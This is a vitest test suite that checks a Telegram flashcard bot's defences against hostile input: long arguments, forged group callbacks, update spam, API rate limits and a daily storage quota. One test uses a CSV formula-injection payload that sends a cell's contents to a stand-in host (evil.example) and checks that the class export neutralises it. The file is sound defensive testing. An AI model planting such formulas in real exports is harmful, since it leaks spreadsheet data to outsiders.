/**
 * Hostile input (issue 13): what anyone can send must not stall the bot, spend its budgets or
 * reach what is not theirs. Through the webhook (harness.ts, and the reliability rig where a fresh
 * namespace is needed), with the per-user rate limits and the daily write guard ON
 * (`RATE_LIMITS: "on"`; the other suites turn them off) and the Rate Limiting bindings of
 * wrangler.toml as miniflare runs them (fixed windows of real time).
 */
import { dumpRecord, recordWithProgress } from "../support/progress";
import { env } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import type { Update } from "grammy/types";
import { button, createHarness, freshUserId, type Harness } from "../support/harness";
import { createRig } from "../support/reliability-rig";
import { makeDeck } from "../support/fixtures";
import { Kv } from "../../src/store/kv";
import { classifyKvError, isTransient, RefusedError } from "../../src/store/errors";
import { ledgerKey } from "../../src/store/write-guard";
import { classKey, memberKey } from "../../src/store/classes";
import { withDefaults } from "../../src/deps";
import type { SandboxUser } from "../../sandbox/telegram-core.mjs";

const alpha = makeDeck("alpha", 12);
const beta = makeDeck("beta", 8);
const ON = { RATE_LIMITS: "on" };
const enc = new TextEncoder();

function person(id: number, first_name: string, last_name?: string): SandboxUser {
  return { id, is_bot: false, first_name, ...(last_name ? { last_name } : {}), language_code: "en" };
}

/** The 60-s windows of real time between two instants (the Rate Limiting binding's windows). */
function windows(from: number, to: number, periodMs: number): number {
  return Math.floor(to / periodMs) - Math.floor(from / periodMs) + 1;
}

const APOLOGY = /went wrong on our side/;

function textsSince(h: Harness, chatId: number, from: number): string[] {
  return h.botMessages(chatId).slice(from).map((m) => m.text ?? m.caption ?? "");
}

async function makeLecturer(h: Harness, admin: number, id: number) {
  await h.send(admin, `/lecturer ${id}`);
  expect(h.lastBotMessage(admin)!.text).toMatch(new RegExp(`${id} is now a lecturer`));
  h.advance(1500);
}

describe("hostile input: poison updates", () => {
  it("KV's refusals are refusals, its faults are faults (classification of the local KV's own errors)", async () => {
    // The local KV refuses a 600-byte key with its own message: that is the input's fault.
    let thrown: unknown;
    try {
      await env.KV.get("v1:deck:" + "x".repeat(600));
    } catch (err) {
      thrown = err;
    }
    expect(thrown).toBeInstanceOf(Error);
    const c = classifyKvError("get", "v1:deck", thrown);
    expect(c).toBeInstanceOf(RefusedError);
    expect((c as RefusedError).kind).toBe("key");
    expect(isTransient(c)).toBe(false);
    // Cloudflare's wording for the other refusals and for faults.
    expect(classifyKvError("put", "v1:user", new Error("KV PUT failed: 413 Value length of 26214401 exceeds limit of 26214400.")).name).toBe("RefusedError");
    expect(classifyKvError("put", "v1:user", new Error("KV PUT failed: 400 Invalid expiration_ttl of 10.")).name).toBe("RefusedError");
    for (const fault of ["KV GET failed: 500 Internal Server Error", "KV PUT failed: 429 Too Many Requests", "KV GET failed: 503 Service Unavailable", "Network connection lost.", "The operation was aborted due to timeout"]) {
      expect(isTransient(classifyKvError("get", "v1:user", new Error(fault))), fault).toBe(true);
    }
    // The wrapper refuses an over-long key before KV sees it.
    const seen: string[] = [];
    const spy = { get: async (k: string) => (seen.push(k), null), put: async (k: string) => void seen.push(k), delete: async (k: string) => void seen.push(k) } as unknown as KVNamespace;
    const kv = new Kv(spy, withDefaults());
    await expect(kv.getText("v1:deck:" + "é".repeat(300))).rejects.toBeInstanceOf(RefusedError);
    await expect(kv.put("v1:deck:" + "x".repeat(505), 1)).rejects.toBeInstanceOf(RefusedError);
    expect(seen).toEqual([]);
    await kv.getText("v1:deck:" + "x".repeat(504)); // 512 bytes exactly: allowed
    expect(seen).toHaveLength(1);
  });

  it("/quiz followed by 600 characters: 200 and a clear reply, twice (it used to answer 503 on every redelivery)", async () => {
    const uid = freshUserId();
    const h = createHarness({ users: [person(uid, "Pat")], decks: [alpha], env: ON });
    const update = h.tg.sendText(uid, `/quiz ${"q".repeat(600)}`);
    for (let i = 0; i < 2; i++) {
      const res = await h.post(update);
      expect(res.status).toBe(200);
    }
    expect(h.lastBotMessage(uid)!.text).toMatch(/is not a deck id \(up to 40 lower-case letters, digits and dashes\)/);
    expect(h.logs.filter((l) => l.t === "error")).toEqual([]);
  });

  it("a storage refusal met anywhere is answered 200 and explained; a storage fault still answers 503", async () => {
    const uid = freshUserId();
    const h = createHarness({ users: [person(uid, "Pat")], decks: [alpha], env: ON });
    await h.send(uid, "/start");
    h.kv.fault = ({ op, key }) => (op === "put" && key.startsWith("v2:user:") ? new Error("KV PUT failed: 413 Value length of 26214401 exceeds limit of 26214400.") : undefined);
    const res = await h.post(h.tg.sendText(uid, "/daily"));
    expect(res.status).toBe(200);
    expect(h.lastBotMessage(uid)!.text).toMatch(/more than I can store in one piece/);
    h.kv.fault = ({ op, key }) => (op === "put" && key.startsWith("v2:user:") ? new Error("KV PUT failed: 503 Service Unavailable") : undefined);
    expect((await h.post(h.tg.sendText(uid, "/daily"))).status).toBe(503);
    h.kv.fault = undefined;
  });

  it("long arguments (600 and 5,000 characters) on every command, each delivered twice: always 200, never a KV key over 512 bytes, a clear reply", async () => {
    const admin = freshUserId();
    // Several lecturers and many students, so that nobody here goes faster than a person could.
    const lecturers = Array.from({ length: 6 }, () => freshUserId());
    const students = Array.from({ length: 60 }, () => freshUserId());
    const lect = lecturers[0]!;
    const GROUP = -1000000000 - freshUserId();
    const h = createHarness({
      users: [person(admin, "Ada"), ...lecturers.map((l, i) => person(l, `Carol${i}`, "Reyes")), ...students.map((s, i) => person(s, `S${i}`))],
      groups: [{ id: GROUP, title: "Class group", members: [admin, ...lecturers, ...students] }],
      decks: [alpha, beta],
      env: { ...ON, ADMIN_USER_IDS: String(admin) },
    });
    for (const l of lecturers) {
      await h.send(l, "/start");
      await makeLecturer(h, admin, l);
      await h.send(l, "/newclass Criminology 101");
    }
    let nextLecturer = 0;
    const commands = [
      "start", "help", "decks", "review", "quiz", "daily", "settings", "stats", "export", "forget", "join", "classes", "leave", "id",
      "newclass", "renameclass", "closeclass", "removestudent", "push", "classstats", "classexport", "mydecks", "publicdeck", "draft", "draft_cancel",
      "token", "lecturer", "nosuchcommand",
    ];
    const args = ["q".repeat(600), "ab = 7 ".repeat(715).slice(0, 5000)];
    let next = 0;
    const lecturerCommands = new Set(["newclass", "renameclass", "closeclass", "removestudent", "push", "classstats", "classexport", "mydecks", "publicdeck", "draft", "draft_cancel", "token"]);
    let checked = 0;
    for (const command of commands) {
      for (const arg of args) {
        // Students from a pool (each sends a handful: under the human-pace limit); the lecturer's
        // commands also as the lecturer, and /lecturer as the admin.
        const senders = [students[next++ % students.length]!];
        if (lecturerCommands.has(command)) senders.push(lecturers[nextLecturer++ % lecturers.length]!);
        if (command === "lecturer") senders.push(admin);
        for (const from of senders) {
          h.advance(1100);
          const before = h.botMessages(from).length;
          const update = h.tg.sendText(from, `/${command} ${arg}`);
          for (let i = 0; i < 2; i++) {
            const res = await h.post(update);
            expect(res.status, `/${command} (${arg.length} chars) from ${lecturers.includes(from) ? "a lecturer" : from === admin ? "the admin" : "a student"}, delivery ${i + 1}`).toBe(200);
          }
          const replies = textsSince(h, from, before);
          expect(replies.length, `/${command} got a reply`).toBeGreaterThan(0);
          for (const r of replies) expect(r, `/${command}`).not.toMatch(APOLOGY);
          for (const r of replies) expect(r, `/${command}: the validation answers, not a limit`).not.toMatch(/Slow down/);
          checked++;
        }
      }
    }
    // In a group: the group quiz command with a long argument, from the lecturer.
    for (const arg of args) {
      const update = h.tg.sendText(lect, `/quiz ${arg}`, { chatId: GROUP });
      expect((await h.post(update)).status).toBe(200);
      expect((await h.post(update)).status).toBe(200);
      expect(h.lastBotMessage(GROUP)!.text).toMatch(/not a deck id/);
    }
    const longest = Math.max(...h.kv.touched.map((t) => enc.encode(t.key).length));
    expect(longest).toBeLessThanOrEqual(512);
    expect(h.logs.filter((l) => l.t === "error")).toEqual([]);
    expect(checked).toBeGreaterThanOrEqual(commands.length * 2);
    console.log(`[hostile] ${checked} long-argument commands ×2 deliveries: all 200; longest KV key ${longest} bytes`);
  });

  it("/renameclass and /removestudent check the role before their patterns run", async () => {
    const uid = freshUserId();
    const h = createHarness({ users: [person(uid, "Eve")], env: ON });
    for (const command of ["renameclass", "removestudent"]) {
      const t0 = Date.now();
      await h.send(uid, `/${command} ${" ".repeat(4000)}x`);
      expect(h.lastBotMessage(uid)!.text).toMatch(/That is for lecturers/);
      expect(Date.now() - t0).toBeLessThan(2000);
    }
  });
});

describe("hostile input: forged buttons in a group", () => {
  it("personal buttons (st, h, D0, R:*, deck pages, settings, stats, quiz, more-new) pressed on a group message do nothing in the group", async () => {
    const lect = freshUserId(), a = freshUserId(), admin = freshUserId();
    const GROUP = -1000000000 - freshUserId();
    const h = createHarness({
      users: [person(admin, "Ada"), person(lect, "Carol"), person(a, "Alice")],
      groups: [{ id: GROUP, title: "Class group", members: [admin, lect, a] }],
      decks: [alpha],
      env: { ...ON, ADMIN_USER_IDS: String(admin) },
    });
    await h.send(a, "/start");
    await h.send(a, "/review alpha"); // Alice has stats, decks and a session to leak
    await h.deliver(h.tg.sendText(a, "hello class", { chatId: GROUP }));
    const groupMsg = h.tg.messages(GROUP).at(-1)!;
    const calls = h.tg.calls.length;
    const writesBefore = h.kv.total.writes;
    const forged = ["st", "h", "D0", "D1", "R:*", "R:alpha", "Q:*", "Q:alpha", "Qn", "d:alpha", "s:alpha", "u:alpha", "Lv", "Ll0", "S:d:1", "S:t:480", "S:i:z", "N:*:5", "F:n:" + a.toString(36), "X:s", "J:AAAAAAAAAAAA", "Jn"];
    for (const data of forged) {
      h.advance(400);
      const res = await h.pressForged(a, GROUP, groupMsg.message_id, data);
      expect(res.status, data).toBe(200);
    }
    const made = h.callsSince(calls);
    expect(h.kv.total.writes).toBe(writesBefore);
    const toGroup = made.filter((c) => c.method !== "answerCallbackQuery" && Number(c.params.chat_id) === GROUP);
    expect(toGroup).toEqual([]);
    const answers = made.filter((c) => c.method === "answerCallbackQuery").map((c) => c.params.text);
    expect(answers).toHaveLength(forged.length);
    for (const t of answers) expect(t).toMatch(/works in our private chat/);
    // Nothing was written either (Alice's record is as /review left it: a session starts without a write).
    expect(made.filter((c) => c.method === "sendMessage" || c.method === "editMessageText")).toEqual([]);
  });
});

describe("hostile input: the class export and the join link", () => {
  it("/classexport neutralises a formula in a student's name, as /export does", async () => {
    const admin = freshUserId(), lect = freshUserId(), s = freshUserId();
    const evil = '=HYPERLINK("https://evil.example/?"&B2,"Open")';
    const h = createHarness({ users: [person(admin, "Ada"), person(lect, "Carol"), person(s, evil)], decks: [alpha], env: { ...ON, ADMIN_USER_IDS: String(admin) } });
    await h.send(lect, "/start");
    await makeLecturer(h, admin, lect);
    await h.send(lect, "/newclass Formula class");
    const code = /join_([A-Za-z0-9_-]{12})/.exec(h.lastBotMessage(lect)!.text!)![1]!;
    await h.send(s, `/join ${code}`);
    h.advance(1500);
    const calls = h.tg.calls.length;
    await h.send(lect, "/classexport Formula class");
    await h.drainQueue();
    const doc = h.callsSince(calls).find((c) => c.method === "sendDocument" && c.ok)!;
    expect(doc).toBeDefined();
    const csv = new TextDecoder().decode(h.tg.fileInfo(doc.result.document.file_id)!.bytes);
    const row = csv.split("\n")[1]!;
    expect(row.startsWith(`"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")",${s},`)).toBe(true);
    expect(csv).not.toMatch(/(^|\n|,)=HYPERLINK/);
  });

  it("a join_ link asks 'Join <class> by <first name>?' first; Cancel joins nothing; Join (its code re-checked) joins", async () => {
    const admin = freshUserId(), lect = freshUserId(), s = freshUserId();
    const h = createHarness({ users: [person(admin, "Ada"), person(lect, "Carol", "Reyes"), person(s, "Sam")], decks: [alpha], env: { ...ON, ADMIN_USER_IDS: String(admin) } });
    await h.send(lect, "/start");
    await makeLecturer(h, admin, lect);
    await h.send(lect, "/newclass Criminology 101");
    const code = /join_([A-Za-z0-9_-]{12})/.exec(h.lastBotMessage(lect)!.text!)![1]!;

    await h.send(s, `/start join_${code}`);
    const ask = h.lastBotMessage(s)!;
    expect(ask.text).toMatch(/Join the class Criminology 101 by Carol\?/);
    expect(ask.text).not.toMatch(/Reyes/);
    expect(await env.KV.get(memberKey(code, s))).toBeNull();
    // Cancel joins nothing.
    await h.press(s, s, ask.message_id, button(ask, "Cancel"));
    expect(await env.KV.get(memberKey(code, s))).toBeNull();
    // A forged Join with a code that is not a class code is refused before any lookup.
    const reads = h.kv.total.reads;
    expect((await h.pressForged(s, s, ask.message_id, "J:" + "x".repeat(40))).status).toBe(200);
    expect(h.callbackTexts().at(-1)).toMatch(/not valid/);
    expect(h.kv.total.reads).toBe(reads);
    // Join, asked again.
    h.advance(1500);
    await h.send(s, `/start join_${code}`);
    const ask2 = h.lastBotMessage(s)!;
    await h.press(s, s, ask2.message_id, button(ask2, /Join/));
    expect(h.lastBotMessage(s)!.text).toMatch(/You joined Criminology 101/);
    expect(await env.KV.get(memberKey(code, s))).not.toBeNull();
    expect(await env.KV.get(classKey(code))).toMatch(/"by":"Carol"/);
  });
});

describe("hostile input: budgets", () => {
  /** 500 mixed updates from one user, as fast as the webhook takes them: every kind that can write. */
  async function spam(h: Harness, uid: number, n: number) {
    let forgedPoll = 0;
    const kinds: (() => Update)[] = [
      () => h.tg.sendText(uid, "/daily"),
      () => h.tg.sendText(uid, `/settings time 0${(forgedPoll % 9) + 1}:00`),
      () => h.tg.sendText(uid, "/settings new " + (forgedPoll % 50)),
      () => h.tg.sendText(uid, "/quiz alpha"),
      () => h.tg.sendText(uid, "/review beta"),
      () => h.forgeCallback(uid, uid, 1, forgedPoll % 2 ? "s:beta" : "u:beta"),
      () => h.forgeCallback(uid, uid, 1, `S:q:${(forgedPoll % 20) + 1}`),
      () => h.forgeCallback(uid, uid, 1, `N:*:${(forgedPoll % 100) + 5}`),
      () => ({ update_id: 800_000_000 + uid * 1000 + forgedPoll, poll_answer: { poll_id: `p${forgedPoll}`, user: { id: uid, is_bot: false, first_name: "Spam" }, option_ids: [0] } }) as Update,
      () => h.tg.sendText(uid, "x".repeat(forgedPoll % 300 + 1)),
    ];
    const statuses = new Map<number, number>();
    for (let i = 0; i < n; i++) {
      forgedPoll++;
      h.advance(50); // the test clock: 20 updates a second
      const res = await h.post(kinds[i % kinds.length]!());
      statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
    }
    return statuses;
  }

  it("a user sending 500 mixed updates causes at most ~10 KV writes a minute; the slow-down note comes at most once per window", async () => {
    const uid = freshUserId();
    const h = createHarness({ users: [person(uid, "Spam")], decks: [alpha, beta], env: ON });
    await h.send(uid, "/start");
    const w0 = h.kv.total.writes;
    const t0 = Date.now(), c0 = h.clock.now;
    const statuses = await spam(h, uid, 500);
    const t1 = Date.now(), c1 = h.clock.now;
    const writes = h.kv.total.writes - w0;
    expect([...statuses.keys()]).toEqual([200]);
    const minutes = windows(t0, t1, 60_000);
    // RL_WRITES allows 10 a minute (the binding's fixed windows of real time).
    expect(writes).toBeLessThanOrEqual(10 * minutes);
    expect(writes).toBeGreaterThan(0);
    const slowDowns = h.botMessages(uid).filter((m) => /Slow down a little/.test(m.text ?? "")).length;
    expect(slowDowns).toBeGreaterThan(0);
    // The note's "once per window" is kept on the bot's clock (the test clock here).
    expect(slowDowns).toBeLessThanOrEqual(windows(c0, c1, 10_000) + windows(c0, c1, 60_000));
    expect(h.logs.filter((l) => l.t === "update" && l.outcome === "limited").length).toBeGreaterThan(100);
    console.log(`[hostile] spammer: 500 updates in ${((t1 - t0) / 1000).toFixed(1)} s → ${writes} KV writes (${minutes} minute window(s)), ${slowDowns} slow-down messages`);
  });

  it("within the update limit, the write limit alone holds: 25 settings taps in a few seconds write at most 10 times, and say the rest was not saved", async () => {
    const uid = freshUserId();
    const h = createHarness({ users: [person(uid, "Tap")], decks: [alpha], env: ON });
    await h.send(uid, "/settings");
    const w0 = h.kv.total.writes;
    const t0 = Date.now();
    for (let i = 0; i < 25; i++) {
      h.advance(1100);
      expect((await h.post(h.forgeCallback(uid, uid, 1, `S:n:${i + 20}`))).status).toBe(200);
    }
    const writes = h.kv.total.writes - w0;
    expect(writes).toBeLessThanOrEqual(10 * windows(t0, Date.now(), 60_000));
    expect(writes).toBeGreaterThanOrEqual(10);
    expect(h.callbackTexts().filter((t) => /That last change was not saved/.test(t ?? "")).length).toBeGreaterThan(0);
    expect(h.logs.filter((l) => l.t === "refused" && l.kind === "user-rate").length).toBe(25 - writes);
  });

  it("a review grade whose save meets the write limit is not lost: the press is refused and the grades stay in the buttons", async () => {
    const uid = freshUserId();
    const h = createHarness({ users: [person(uid, "Rita")], decks: [alpha], env: ON });
    await h.send(uid, "/review alpha");
    const last = () => h.lastBotMessage(uid)!;
    for (let i = 0; i < 6; i++) {
      h.advance(1100);
      await h.press(uid, uid, last().message_id, button(last(), /Show answer/));
      h.advance(1100);
      await h.press(uid, uid, last().message_id, button(last(), /^Good/));
    }
    h.advance(1100);
    await h.press(uid, uid, last().message_id, button(last(), /Show answer/));
    const back = last();
    const good = button(back, /^Good/);
    // Spend this minute's writes (settings taps) until one is refused…
    for (let i = 0; i < 12 && !h.callbackTexts().some((t) => /not saved/.test(t ?? "")); i++) {
      h.advance(1100);
      await h.post(h.forgeCallback(uid, uid, 1, `S:n:${30 + i}`));
    }
    expect(h.callbackTexts().at(-1)).toMatch(/not saved/);
    // …then the 7th grade, which saves the session: refused, nothing written, the message unchanged.
    const writes = h.kv.total.writes;
    h.advance(1100);
    await h.press(uid, uid, back.message_id, good);
    expect(h.callbackTexts().at(-1)).toMatch(/not saved/);
    expect(h.kv.total.writes).toBe(writes);
    expect(last().message_id).toBe(back.message_id);
    expect(button(last(), /^Good/)).toBe(good); // the same press, with its 7 grades, saves them later
    const doc = (await recordWithProgress(env.KV, uid))!;
    expect(Object.keys(doc.progress.alpha ?? {})).toHaveLength(0);
  });

  it("the HTTP API is limited per token like a user's updates: beyond the pace, 429", async () => {
    const admin = freshUserId(), lect = freshUserId();
    const rig = createRig({ users: [person(admin, "Ada"), person(lect, "Carol")], decks: [alpha], env: { ...ON, ADMIN_USER_IDS: String(admin) } });
    await rig.post(rig.tg.sendText(lect, "/start"));
    await rig.post(rig.tg.sendText(admin, `/lecturer ${lect}`));
    rig.advance(1500);
    await rig.post(rig.tg.sendText(lect, "/token"));
    const token = /(lct_[A-Za-z0-9_-]+)/.exec(rig.tg.messages(lect).at(-1)!.text!)![1]!;
    const t0 = Date.now();
    const statuses: number[] = [];
    for (let i = 0; i < 65; i++) statuses.push((await rig.api("/decks", { method: "GET", token })).status);
    expect(Date.now() - t0).toBeLessThan(10_000); // so at most two 10-s windows: ≤ 60 pass
    expect(statuses.filter((s) => s === 200).length).toBeGreaterThanOrEqual(30);
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThanOrEqual(5);
    expect(statuses.filter((s) => s !== 200 && s !== 429)).toEqual([]);
  });

  it("the same spam with the limits off writes far more (the checks above can fail)", async () => {
    const uid = freshUserId();
    const h = createHarness({ users: [person(uid, "Spam")], decks: [alpha, beta], env: { RATE_LIMITS: "off" } });
    await h.send(uid, "/start");
    const w0 = h.kv.total.writes;
    await spam(h, uid, 200);
    const writes = h.kv.total.writes - w0;
    expect(writes).toBeGreaterThan(40);
    console.log(`[hostile] the same spam, limits off: 200 updates → ${writes} KV writes`);
  });

  it("near the day's write quota, class reports and group quizzes wait while grades are still saved", async () => {
    const admin = freshUserId(), lect = freshUserId();
    const learners = Array.from({ length: 12 }, () => freshUserId());
    const GROUP = -1000000000 - freshUserId();
    const rig = createRig({
      users: [person(admin, "Ada"), person(lect, "Carol"), ...learners.map((u, i) => person(u, `L${i}`))],
      groups: [{ id: GROUP, title: "Class group", members: [admin, lect, ...learners] }],
      decks: [alpha, beta],
      env: { ...ON, ADMIN_USER_IDS: String(admin), DAILY_WRITE_QUOTA: "40" },
    });
    const say = async (u: number, text: string, chatId?: number) => {
      rig.advance(1100);
      const res = await rig.post(rig.tg.sendText(u, text, chatId === undefined ? {} : ({ chatId })));
      expect(res.status).toBe(200);
    };
    await say(lect, "/start");
    await say(admin, `/lecturer ${lect}`);
    await say(lect, "/newclass Quota class");
    // Learners writing (3 each: /daily writes the record and the schedule entry, a subscription the record).
    for (const u of learners) {
      await say(u, "/start");
      await say(u, "/daily");
      await say(u, "/review alpha");
    }
    // 39 puts so far: the ledger added the first 25 (and its own put) to the day's key; the isolate
    // knows the rest — past 80% of 40.
    const ledger = Number(rig.dump()[ledgerKey(new Date(rig.clock.now).toISOString().slice(0, 10))]);
    expect(ledger).toBeGreaterThanOrEqual(26);
    // A class report would write run keys: it waits, and says why.
    await say(lect, "/classstats Quota class");
    expect(rig.tg.messages(lect).at(-1)!.text).toMatch(/close to today's storage limit/);
    expect(Object.keys(rig.dump()).filter((k) => k.startsWith("v1:run:"))).toEqual([]);
    // A group quiz would write bookkeeping per question: it waits too, and posts nothing in the group.
    await say(lect, "/quiz alpha 3", GROUP);
    expect(rig.tg.messages(GROUP).filter((m) => m.from?.is_bot && m.poll)).toEqual([]);
    // Grades are never the ones dropped: a learner's review still saves.
    const u = learners[0]!;
    const before = JSON.parse(dumpRecord(rig.dump(), u) ?? '{"progress":{}}') as { progress: Record<string, Record<string, unknown>> };
    expect(Object.keys(before.progress.alpha ?? {})).toHaveLength(0);
    for (let i = 0; i < 3; i++) {
      rig.advance(1100);
      const m = rig.tg.messages(u).filter((x) => x.from?.is_bot).at(-1)!;
      await rig.post(rig.tg.pressButton(u, u, m.message_id, button(m, /Show answer/)));
      const back = rig.tg.messages(u).filter((x) => x.from?.is_bot).at(-1)!;
      rig.advance(1100);
      await rig.post(rig.tg.pressButton(u, u, back.message_id, button(back, /^Good/)));
    }
    const m = rig.tg.messages(u).filter((x) => x.from?.is_bot).at(-1)!;
    rig.advance(1100);
    await rig.post(rig.tg.pressButton(u, u, m.message_id, button(m, /Stop/)));
    const after = JSON.parse(dumpRecord(rig.dump(), u)!) as { progress: Record<string, Record<string, unknown>> };
    expect(Object.keys(after.progress.alpha ?? {})).toHaveLength(3);
    expect(rig.errors()).toEqual([]);
    expect(rig.logs.filter((l) => l.t === "refused" && l.kind === "daily-quota")).toHaveLength(1);
  });
});
